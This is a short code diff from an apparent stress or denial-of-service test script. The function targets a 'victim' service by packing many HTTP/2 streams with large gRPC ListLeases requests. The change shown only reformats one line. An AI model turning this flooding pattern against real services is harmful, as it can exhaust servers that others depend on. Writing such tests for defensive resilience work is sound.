@@ -44,8 +44,7 @@ async def unread_answers(victim: Victim) -> None:
     block = headers(SERVICE + "ListLeases", who)
     ask = message(pb.ListLeasesRequest(page_size=1000).SerializeToString())
     first = b"".join(
-        frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, ask)
-        for stream in streams(PAGES)
+        frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, ask) for stream in streams(PAGES)
     )
 
     async def one() -> None:
